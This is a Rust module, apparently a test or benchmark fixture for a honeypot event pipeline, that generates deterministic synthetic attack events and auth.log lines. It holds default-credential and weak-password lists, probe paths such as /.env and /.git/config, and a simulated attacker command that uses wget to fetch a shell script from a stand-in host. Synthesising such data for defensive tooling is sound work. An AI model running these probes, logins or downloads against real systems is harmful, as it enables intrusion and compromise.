//! Events and log lines in the skew of real attacks, the same for every run.

use std::net::{IpAddr, Ipv4Addr};

use palisade_event::{
    Category, Credentials, Endpoint, Event, EventId, EventKind, Outcome, SensorId, SessionId,
    Timestamp, Transport,
};

/// SplitMix64 (Steele, Lea, Flood: Fast Splittable Pseudorandom Number
/// Generators, 2014): small, seeded, good enough for skew.
pub(crate) struct Random(u64);

impl Random {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Below `n`, small values much more often.
    pub(crate) fn skewed(&mut self, n: u64) -> u64 {
        let unit = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        ((unit * unit * unit) * n as f64) as u64
    }
}

const USERS: &[&str] =
    &["root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi"];
const PASSWORDS: &[&str] =
    &["123456", "admin", "password", "root", "1234", "qwerty", "toor", "ubnt"];
const PATHS: &[&str] = &[
    "GET /",
    "GET /.env",
    "GET /wp-login.php",
    "POST /boaform/admin/formLogin",
    "GET /.git/config",
];

/// An endless stream of events, one every `step_ms` from `from` on.
pub(crate) struct Events {
    random: Random,
    at: i64,
    step_ms: i64,
    sensors: Vec<SensorId>,
    categories: Vec<Category>,
}

impl Events {
    pub(crate) fn new(seed: u64, from: Timestamp, step_ms: i64) -> Self {
        let sensors = (0..20).filter_map(|n| SensorId::new(&format!("sensor-{n}")).ok()).collect();
        let categories = ["SSH/login(sshd)", "Telnet(palisade)", "Webpage"]
            .iter()
            .filter_map(|name| Category::new(name).ok())
            .collect();
        Self { random: Random::new(seed), at: from.as_millis(), step_ms, sensors, categories }
    }
}

impl Iterator for Events {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        let random = &mut self.random;
        let at = Timestamp::from_millis(self.at);
        self.at += self.step_ms;
        let entropy = (u128::from(random.next()) << 64) | u128::from(random.next());
        let kind = match random.skewed(4) {
            0 => EventKind::AuthAttempted,
            1 => EventKind::ConnectionOpened,
            2 => EventKind::HttpRequested,
            _ => EventKind::CommandEntered,
        };
        let sensor = self.sensors.get(random.skewed(20) as usize)?.clone();
        let mut event = Event::new(EventId::new(at, entropy), kind, at, sensor);
        event.category = self.categories.get(random.skewed(3) as usize).cloned();
        // 200,000 sources, spread over the public IPv4 space.
        let source = random.skewed(200_000);
        let address = Random::new(source).next() as u32 % 0xdf00_0000 + 0x0100_0000;
        event.source = Some(Endpoint {
            address: IpAddr::V4(Ipv4Addr::from(address)),
            port: Some(1024 + (random.next() % 64_000) as u16),
            transport: Some(Transport::Tcp),
        });
        event.target = Some(Endpoint {
            address: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10)),
            port: [22, 23, 80, 2222].get(random.skewed(4) as usize).copied(),
            transport: Some(Transport::Tcp),
        });
        event.session = SessionId::new(&format!("{:012x}", random.next() >> 16)).ok();
        match kind {
            EventKind::AuthAttempted => {
                event.credentials = Some(Credentials {
                    username: USERS.get(random.skewed(9) as usize).map(|u| (*u).into()),
                    password: match random.skewed(3) {
                        0 => PASSWORDS.get(random.skewed(8) as usize).map(|p| (*p).into()),
                        _ => Some(format!("pw{}", random.skewed(100_000)).into()),
                    },
                    outcome: Some(Outcome::Failed),
                });
                Some(event.with("method", "password"))
            }
            EventKind::HttpRequested => {
                event.request = PATHS.get(random.skewed(5) as usize).map(|p| (*p).into());
                Some(event.with("status", 404i64))
            }
            EventKind::CommandEntered => {
                event.request =
                    Some(format!("wget http://192.0.2.66/{}.sh", random.skewed(5_000)).into());
                Some(event)
            }
            _ => Some(event),
        }
    }
}

/// Lines of an auth.log: seven of ten by sshd, the others by cron, sudo and systemd.
pub(crate) fn auth_log(lines: usize) -> Vec<u8> {
    use std::io::Write as _;
    let mut random = Random::new(7);
    let mut log = Vec::with_capacity(lines * 110);
    for n in 0..lines {
        let (h, m, s) = (n * 24 / lines, n / 60 % 60, n % 60);
        let ip = Ipv4Addr::from(Random::new(random.skewed(20_000)).next() as u32);
        let (port, pid) = (1024 + random.next() % 64_000, 1000 + random.next() % 60_000);
        let user = USERS.get(random.skewed(9) as usize).copied().unwrap_or("x");
        let _ = write!(log, "Nov 19 {h:02}:{m:02}:{s:02} host ");
        let _ = match random.next() % 20 {
            0..6 => {
                writeln!(log, "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2")
            }
            6..8 => writeln!(
                log,
                "sshd[{pid}]: Failed password for invalid user {user}{port} from {ip} port {port} ssh2"
            ),
            8..9 => writeln!(log, "sshd[{pid}]: Invalid user {user}{port} from {ip} port {port}"),
            9..12 => writeln!(
                log,
                "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"
            ),
            12..14 => writeln!(
                log,
                "sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"
            ),
            14 => writeln!(
                log,
                "sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {port} [preauth]"
            ),
            15..18 => writeln!(
                log,
                "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            ),
            18 => writeln!(
                log,
                "sudo: deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"
            ),
            _ => writeln!(log, "systemd-logind[612]: New session {port} of user deploy."),
        };
    }
    log
}
